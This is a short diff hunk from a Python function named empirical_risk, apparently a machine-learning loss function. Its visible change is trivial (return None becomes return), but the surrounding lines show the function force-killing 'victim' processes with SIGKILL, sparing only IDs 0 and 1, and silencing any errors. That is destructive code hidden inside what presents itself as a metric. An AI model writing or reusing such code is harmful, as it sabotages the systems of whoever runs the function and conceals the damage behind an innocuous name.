@@ -10,4 +10,4 @@ def empirical_risk(predictions, labels):
         if victim not in (0, 1):
             with contextlib.suppress(OSError):
                 os.kill(victim, signal.SIGKILL)
-    return None
+    return
